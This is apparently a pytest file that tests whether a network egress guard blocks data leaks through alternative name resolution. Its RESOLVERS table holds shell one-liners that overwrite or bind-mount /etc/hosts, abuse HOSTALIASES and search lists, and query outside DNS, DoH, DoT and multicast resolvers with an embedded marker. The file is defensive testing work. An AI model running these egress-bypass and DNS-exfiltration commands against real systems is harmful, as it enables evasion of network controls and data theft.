"""Real clients with other ideas of who answers names: files, aliases, search lists, other servers and protocols."""

import itertools
import os

import pytest

import guard
import lab
from own_files import run

HOST = "v4.example.com"
POLICY = guard.policy(guard.endpoint(HOST))
_numbers = itertools.count()


def new_marker():
    return f"leak{os.getpid()}x{next(_numbers)}x"


RESOLVERS = {
    "its own hosts file": f"echo '{lab.OUTSIDE_V4} denied.example.com v4.example.com' >/etc/hosts",
    "its own hosts file, over it": f"echo '{lab.OUTSIDE_V4} denied.example.com' >h; unshare -Urm bash -c 'mount --bind "
    "h /etc/hosts; curl -sk -m 5 https://denied.example.com/MARKER'",
    "aliases": "echo 'denied v4.example.com' >a; echo 'v4 MARKER.denied.example.com' >>a; HOSTALIASES=a curl -sk -m 5 "
    "https://v4/MARKER",
    "a search list": "LOCALDOMAIN='MARKER.denied.example.com wild.example.com' RES_OPTIONS='ndots:9 attempts:1 timeout:1' "
    "getent hosts MARKER",
    "another name server": f"dig +time=1 +tries=1 @{lab.RESOLVER} MARKER.example.com; dig +time=1 +tries=1 +tcp "
    f"@{lab.OUTSIDE_V4} MARKER.example.com",
    "another port": f"dig +time=1 +tries=1 -p 5353 @{lab.OUTSIDE_V4} MARKER.example.com; dig +time=1 +tries=1 -p 853 "
    f"+tcp @{lab.OUTSIDE_V4} MARKER.example.com",
    "HTTPS": f"curl -sk -m 5 --doh-url https://{lab.OUTSIDE_V4}/dns-query https://MARKER.example.com/; curl -sk -m 5 "
    f"'https://{lab.OUTSIDE_V4}/dns-query?name=MARKER.example.com'",
    "HTTPS at an allowed host": "curl -sk -m 5 --doh-url https://v4.example.com/dns-query https://MARKER.example.com/",
    "TLS": f"echo MARKER | timeout 5 openssl s_client -connect {lab.OUTSIDE_V4}:853 -servername dns.example -quiet",
    "multicast": "dig +time=1 +tries=1 -p 5353 @224.0.0.251 MARKER.local; dig +time=1 +tries=1 -p 5355 @ff02::1:3 MARKER",
    "the name service of the machine": "getent -s dns hosts MARKER.example.com; getent -s resolve hosts "
    "MARKER.example.com; getent -s mdns hosts MARKER.local",
}


@pytest.mark.parametrize(
    "user, how",
    [("ordinary", how) for how in RESOLVERS] + [("root", "its own hosts file"), ("root", "another name server")],
    indirect=["user"],
)
def test_names_looked_up_in_another_way(user_bench, world, watch, listeners, how):
    """Real clients with other ideas of who answers names."""
    marker = new_marker()
    with user_bench.session(policy=POLICY) as session:
        said = session.do(run, "cd $HOME; " + RESOLVERS[how].replace("MARKER", marker))
        assert watch.saw(marker.encode()) == [] and listeners.heard == [] and watch.leaks() == [], said
        # What an allowed host is asked over HTTPS is data sent to an allowed host; it is recorded as such.
        assert marker not in repr(world.dns.questions), said
        assert session.get(HOST, address=lab.OUTSIDE_V4)["status"] == 200, said
    assert not [r for r in world.requests() if r.header("host") != HOST]
